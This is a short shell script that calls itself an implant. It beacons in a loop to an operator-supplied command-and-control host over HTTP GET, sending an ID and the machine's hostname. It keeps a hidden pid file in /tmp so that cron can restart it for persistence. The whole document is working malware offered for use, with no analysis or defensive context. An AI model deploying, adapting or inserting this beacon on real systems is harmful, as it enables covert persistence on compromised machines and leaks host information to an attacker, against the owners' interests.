# implant C2_HOST C2_PORT ID [INTERVAL] [PATH]: beacons to the C2 over HTTP GET.
# Runs once per host (pid file), so cron can start it again and again.
c2=$1; port=$2; id=$3; every=${4:-10}; path=${5:-/beacon}
pidfile=/tmp/.$(basename "$0").pid
if [ -f "$pidfile" ] && kill -0 "$(cat "$pidfile")" 2>/dev/null; then exit 0; fi
echo $$ > "$pidfile"
while :; do
  timeout 3 wget -q -O /dev/null "http://$c2:$port$path?id=$id&h=$(hostname)" 2>/dev/null
  sleep "$every"
done
